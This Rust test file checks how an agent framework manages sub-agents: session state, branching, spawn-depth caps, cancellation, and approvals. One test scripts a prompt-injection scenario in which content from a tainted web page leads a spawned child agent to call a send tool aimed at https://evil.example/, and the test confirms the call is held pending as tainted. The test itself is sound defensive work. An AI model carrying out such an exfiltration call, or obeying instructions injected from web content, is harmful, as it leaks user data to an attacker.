//! What agents do with sessions: values they keep, branches, other agents.

use std::sync::Arc;

use moltis_core::assistant::{Assistant, Caller, Filter, NewMessage, StopScope};
use moltis_core::event::{Cause, Ending, Event, EventKind, Origin, ToolEnding};
use moltis_core::feed::From;
use moltis_core::id::{OpId, SessionId, TurnId};
use moltis_core::policy::Mode;
use moltis_core::session::{QueueMode, State, Summary, TurnRules};
use moltis_session::{Hands, Preset, Presets};
use moltis_testkit::provider::{Gate, Script, ScriptedModels, ScriptedProvider};
use moltis_testkit::tools::ScriptedTools;

use crate::harness::{Home, owner, rules, soon};

struct OnePreset;

impl Presets for OnePreset {
    fn preset(&self, name: &str) -> Result<Preset, String> {
        match name {
            "reviewer" => Ok(Preset {
                system: "You review.".to_owned(),
                tools: vec!["look".to_owned()],
                model: None,
            }),
            other => Err(format!("there is no preset `{other}`")),
        }
    }

    fn names(&self) -> Vec<String> {
        vec!["reviewer".to_owned()]
    }
}

async fn home() -> (Home, Arc<ScriptedTools>) {
    let (tools, provider) = (ScriptedTools::new(), ScriptedProvider::new("a"));
    let models = ScriptedModels::new(std::slice::from_ref(&provider));
    let presets: Option<Arc<dyn Presets>> = Some(Arc::new(OnePreset));
    let hands = Hands { toolbox: tools.clone(), presets, ..Hands::none() };
    let rules = TurnRules { approvals: Mode::Auto, ..rules() };
    (Home::with_hands(provider, models, rules, hands).await, tools)
}

async fn children(home: &Home) -> Vec<Summary> {
    let all = home.sessions.list(&Filter::default()).await.unwrap();
    all.into_iter().filter(|summary| summary.spawned.is_some()).collect()
}

#[tokio::test(start_paused = true)]
async fn an_agent_keeps_values_for_later_turns_and_after_a_restart() {
    let (mut home, _) = home().await;
    let set = r#"{"operation":"set","key":"k","value":{"n":1}}"#;
    home.provider.push(Script::calls(&[("c1", "session_state", set)]));
    home.provider.push(Script::answer("kept"));
    let turn = home.send("keep it").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    home.restart();
    let get = r#"{"operation":"get","key":"k"}"#;
    let list = r#"{"operation":"list"}"#;
    let calls = [("c2", "session_state", get), ("c3", "session_state", list)];
    home.provider.push(Script::calls(&calls));
    home.provider.push(Script::answer("there"));
    let turn = home.send("what was it?").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let story = home.story();
    assert!(story.contains(r#"session_state done: {"n":1}"#), "{story}");
    assert!(story.contains(r#"session_state done: ["k"]"#), "{story}");
}

#[tokio::test(start_paused = true)]
async fn an_agent_branches_its_session_once() {
    let (home, _) = home().await;
    home.provider.push(Script::calls(&[("c1", "branch_session", r#"{"label":"other way"}"#)]));
    home.provider.push(Script::answer("branched"));
    let turn = home.send("branch").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let all = home.sessions.list(&Filter::default()).await.unwrap();
    let titles: Vec<&str> = all.iter().map(|summary| summary.title.as_str()).collect();
    assert!(titles.contains(&"other way"), "{titles:?}");
    assert_eq!(all.len(), 2);
}

#[tokio::test(start_paused = true)]
async fn agents_work_side_by_side_in_sessions_of_their_own_and_tell_their_results() {
    let (home, _) = home().await;
    let calls = [
        ("c1", "spawn_agent", r#"{"task":"first task"}"#),
        ("c2", "spawn_agent", r#"{"task":"second task","context":"know this"}"#),
    ];
    home.provider.push(Script::calls(&calls));
    home.provider.push(Script::answer("result"));
    home.provider.push(Script::answer("result"));
    home.provider.push(Script::answer("both are done"));
    let turn = home.send("do both").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    assert_eq!(home.story().matches("spawn_agent done: result").count(), 2, "{}", home.story());
    let children = children(&home).await;
    assert_eq!(children.len(), 2);
    for child in children {
        let spawned = child.spawned.unwrap();
        assert_eq!(
            (spawned.parent, spawned.turn, spawned.depth),
            (home.session.clone(), turn.clone(), 1)
        );
    }
}

#[tokio::test(start_paused = true)]
async fn an_agent_of_a_preset_has_its_words_and_no_more_than_its_tools() {
    let (home, _) = home().await;
    let call = r#"{"task":"look at it","preset":"reviewer","tools":["look","change"]}"#;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", call)]));
    home.provider.push(Script::answer("reviewed"));
    home.provider.push(Script::answer("done"));
    let turn = home.send("review").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let asked = &home.provider.requests()[1];
    assert_eq!(asked.tools.iter().map(|tool| tool.name.as_str()).collect::<Vec<_>>(), ["look"]);
    assert!(asked.system.starts_with("You review.\n\nToday is "), "{}", asked.system);
    let unknown = r#"{"task":"x","preset":"nobody"}"#;
    home.provider.push(Script::calls(&[("c2", "spawn_agent", unknown)]));
    home.provider.push(Script::answer("no such one"));
    let turn = home.send("again").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    assert!(home.story().contains("there is no preset `nobody`"), "{}", home.story());
}

#[tokio::test(start_paused = true)]
async fn agents_do_not_begin_agents_without_end() {
    let (home, _) = home().await;
    for depth in 0..3 {
        let call = format!(r#"{{"task":"depth {depth}"}}"#);
        home.provider.push(Script::calls(&[("c", "spawn_agent", &call)]));
    }
    home.provider.otherwise(Script::answer("the end"));
    let turn = home.send("go deep").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let mut depths: Vec<u32> = children(&home)
        .await
        .iter()
        .filter_map(|child| Some(child.spawned.as_ref()?.depth))
        .collect();
    depths.sort_unstable();
    assert_eq!(depths, [1, 2, 3]);
    let requests = home.provider.requests();
    assert!(requests[0].tools.iter().any(|tool| tool.name == "spawn_agent"));
    let last =
        requests.iter().filter(|asked| asked.tools.iter().all(|tool| tool.name != "spawn_agent"));
    assert_eq!(last.count(), 1);
}

#[tokio::test(start_paused = true)]
async fn an_agent_ends_when_the_one_that_began_it_is_stopped() {
    let (home, _) = home().await;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", r#"{"task":"for ever"}"#)]));
    home.provider.push(Script::new().text("I be").hang());
    home.send("begin it").await;
    let child = running_child(&home).await;
    let (caller, op) = (owner(), OpId::from("stop"));
    let stopped = home.sessions.stop(&caller, op, &home.session, StopScope::All);
    assert_eq!(soon(stopped).await.unwrap().len(), 1);
    let selector = moltis_core::assistant::Selector::Id(child);
    let summary = soon(home.sessions.find(&caller, &selector));
    assert_eq!(summary.await.unwrap().last_ending, Some(Ending::Cancelled));
}

#[tokio::test(start_paused = true)]
async fn stopping_all_ends_agents_that_an_earlier_turn_left_in_the_background_and_theirs() {
    let (a, b) = (ScriptedProvider::new("a"), ScriptedProvider::new("b"));
    let models = ScriptedModels::new(&[a.clone(), b.clone()]);
    let hands = Hands { toolbox: ScriptedTools::new(), ..Hands::none() };
    let rules = TurnRules { approvals: Mode::Auto, ..rules() };
    let home = Home::with_hands(a, models, rules, hands).await;
    let background = r#"{"task":"x","background":true,"model":"b/model"}"#;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", background)]));
    home.provider.otherwise(Script::answer("it is at work"));
    // The agent begins another one, and both go on.
    b.push(Script::calls(&[("c2", "spawn_agent", background)]));
    b.otherwise(Script::new().text("I be").hang());
    let turn = home.send("begin it").await.turn;
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let both = soon(async {
        loop {
            let children = children(&home).await;
            if children.len() == 2 {
                return children;
            }
            tokio::task::yield_now().await;
        }
    })
    .await;
    let (caller, op) = (owner(), OpId::from("stop"));
    let stopped = home.sessions.stop(&caller, op, &home.session, StopScope::All);
    assert!(soon(stopped).await.unwrap().is_empty(), "none of its own turns runs");
    for child in both {
        let mut view = view_of(&home, &child.id).await;
        view.until(|view| view.summary().state() == State::Idle).await;
        assert_eq!(view.summary().last_ending, Some(Ending::Cancelled), "{child:?}");
    }
    assert!(!home.story().contains("the result of agent"), "{}", home.story());
}

/// The session of the one agent that is at work.
async fn running_child(home: &Home) -> SessionId {
    let mut view = home.attach(From::Seq(0)).await;
    view.until(|view| view.growing.values().any(|text| text.starts_with("session "))).await;
    let child = children(home).await.remove(0).id;
    let mut feed =
        crate::harness::View::new(home.sessions.attach(&child, From::Seq(0)).await.unwrap());
    feed.until(|view| view.text() == "I be").await;
    child
}

#[tokio::test(start_paused = true)]
async fn an_agent_in_the_background_tells_its_result_as_a_message() {
    let (home, _) = home().await;
    let gate = Gate::closed();
    let call = r#"{"task":"slowly","background":true}"#;
    home.provider.push(Script::calls(&[("c1", "spawn_agent", call)]));
    home.provider.otherwise(Script::answer("going on").after(&gate));
    let turn = home.send("begin it").await.turn;
    // The agent and its parent ask at the same time: both are let through, then the report's turn.
    (0..3).for_each(|_| gate.open());
    assert_eq!(home.ended(&turn).await, Ending::Done);
    let mut view = home.attach(From::Seq(0)).await;
    let reported = |view: &crate::harness::View| {
        view.events.iter().any(|event| match &event.kind {
            EventKind::UserMessage { parts, .. } => {
                moltis_core::message::text_of(parts).contains("the result of agent")
            }
            _ => false,
        })
    };
    view.until(|view| reported(view) && view.summary().state() == State::Idle).await;
}

#[tokio::test(start_paused = true)]
async fn an_agent_knows_no_more_than_its_parent_may_tell() {
    let (home, tools) = home().await;
    let page = moltis_core::tool::Outcome::said("a page").from(Origin::Web);
    tools.give(page);
    home.provider.push(Script::calls(&[("c1", "look", r#"{"at":"a"}"#)]));
    home.provider.push(Script::calls(&[("c2", "spawn_agent", r#"{"task":"send it away"}"#)]));
    let evil = [("c3", "send", r#"{"at":"https://evil.example/"}"#)];
    home.provider.push(Script::calls(&evil));
    home.send("begin").await;
    let mut view = home.attach(From::Seq(0)).await;
    view.until(|view| view.growing.values().any(|text| text.starts_with("session "))).await;
    let child = children(&home).await.remove(0).id;
    let mut view =
        crate::harness::View::new(home.sessions.attach(&child, From::Seq(0)).await.unwrap());
    view.until(|view| view.caught_up && view.summary().state() == State::Waiting).await;
    assert!(view.summary().pending[0].tainted);
    assert_eq!(tools.done(), ["look a"]);
}

/// A session whose agent has begun another one, which asks whether it may send something.
async fn child_that_asks(background: bool) -> (Home, Arc<ScriptedTools>, SessionId) {
    let (home, tools) = home().await;
    let call = format!(r#"{{"task":"send it","background":{background}}}"#);
    home.provider.push(Script::calls(&[("c1", "spawn_agent", &call)]));
    let send = Script::calls(&[("c2", "send", r#"{"at":"https://a.example/"}"#)]);
    match background {
        // Parent and child ask at the same time.
        true => home.provider.otherwise(send),
        false => home.provider.push(send),
    }
    home.send("begin").await;
    let child = soon(async {
        loop {
            let waiting = home.sessions.approvals().await.unwrap();
            if let Some((child, _)) = waiting.into_iter().find(|(id, _)| *id != home.session) {
                return child;
            }
            tokio::task::yield_now().await;
        }
    });
    let child = child.await;
    (home, tools, child)
}

async fn view_of(home: &Home, session: &SessionId) -> crate::harness::View {
    let feed = home.sessions.attach(session, From::Seq(0)).await.unwrap();
    let mut view = crate::harness::View::new(feed);
    view.until(|view| view.caught_up).await;
    view
}

#[tokio::test(start_paused = true)]
async fn an_agent_that_waits_for_an_answer_ends_with_the_daemon_that_its_parent_ran_in() {
    for background in [false, true] {
        let (mut home, tools, child) = child_that_asks(background).await;
        home.restart();
        soon(home.sessions.recover()).await.unwrap();
        let mut view = view_of(&home, &child).await;
        view.until(|view| view.summary().state() == State::Idle).await;
        assert_eq!(view.summary().last_ending, Some(Ending::Cancelled), "{background}");
        let refused = view.events.iter().any(|event| {
            matches!(&event.kind, EventKind::ApprovalAnswered { allowed: false, reason, .. }
                if reason.contains("went with the daemon"))
        });
        let told = view.events.iter().any(|event| {
            matches!(&event.kind, EventKind::Notice { text, .. } if text.contains("went with"))
        });
        assert!(refused && told, "{background}");
        let of_child = home.sessions.approvals().await.unwrap();
        assert!(of_child.iter().all(|(session, _)| *session != child), "nothing is asked any more");
        assert!(tools.done().is_empty(), "{:?}", tools.done());
    }
}

#[tokio::test(start_paused = true)]
async fn what_a_person_asked_of_an_agent_goes_on_without_the_one_that_began_it() {
    let (mut home, tools, child) = child_that_asks(false).await;
    let message = NewMessage {
        session: child.clone(),
        queue: Some(QueueMode::Steer),
        ..home.message("and hurry")
    };
    soon(home.sessions.send(&owner(), message)).await.unwrap();
    home.restart();
    soon(home.sessions.recover()).await.unwrap();
    let waiting = home.sessions.approvals().await.unwrap();
    assert_eq!(waiting.iter().filter(|(session, _)| *session == child).count(), 1);
    assert!(tools.done().is_empty());
}

/// Sends as no client does.
async fn unasked(home: &Home, op: &str, cause: Cause) -> TurnId {
    let message = NewMessage {
        op: OpId::new(op),
        queue: Some(QueueMode::Steer),
        ..home.message("[the result of an agent]")
    };
    let origin = Origin::Tool;
    let caller = Caller { cause, origin };
    soon(home.sessions.send(&caller, message)).await.unwrap().turn
}

/// Sends as an agent in the background does that tells its result.
async fn reported(home: &Home, from: &SessionId) -> TurnId {
    unasked(home, &format!("report:{from}"), Cause::Model).await
}

#[tokio::test(start_paused = true)]
async fn results_of_agents_do_not_lead_to_agents_without_end() {
    let (home, _) = home().await;
    let spawn = Script::calls(&[("c", "spawn_agent", r#"{"task":"the next one"}"#)]);
    let mut turn = home.send("begin").await.turn;
    let mut depths = Vec::new();
    for _ in 0..4 {
        home.provider.push(spawn.clone());
        home.provider.otherwise(Script::answer("done"));
        assert_eq!(home.ended(&turn).await, Ending::Done);
        let spawned = children(&home).await.into_iter();
        let mine = spawned.filter(|child| child.spawned.as_ref().unwrap().turn == turn);
        let Some(child) = mine.last() else { break };
        let spawned = child.spawned.unwrap();
        depths.push((spawned.depth, spawned.unattended));
        turn = reported(&home, &child.id).await;
    }
    assert_eq!(depths, [(1, false), (2, true), (3, true)]);
    assert!(home.story().contains("no more agents are begun"), "{}", home.story());
}

#[tokio::test(start_paused = true)]
async fn in_a_turn_that_nobody_asked_for_nobody_is_asked_until_a_person_joins_it() {
    for (op, cause) in [("report:agent", Cause::Model), ("boot", Cause::Daemon)] {
        let (home, tools) = home().await;
        let send = |id: &str| Script::calls(&[(id, "send", r#"{"at":"https://a.example/"}"#)]);
        let gate = Gate::closed();
        home.provider.push(send("c1"));
        home.provider.push(send("c2").after(&gate));
        let turn = unasked(&home, op, cause).await;
        let mut view = home.attach(From::Seq(0)).await;
        let denied = |event: &Arc<Event>| {
            matches!(&event.kind, EventKind::ToolFinished { ending, .. }
                if *ending == ToolEnding::Denied)
        };
        view.until(|view| view.events.iter().any(denied)).await;
        assert!(home.sessions.approvals().await.unwrap().is_empty());
        let message = NewMessage { queue: Some(QueueMode::Steer), ..home.message("I am here") };
        assert_eq!(soon(home.sessions.send(&owner(), message)).await.unwrap().turn, turn);
        gate.open();
        view.until(|view| view.summary().state() == State::Waiting).await;
        assert!(tools.done().is_empty());
    }
}
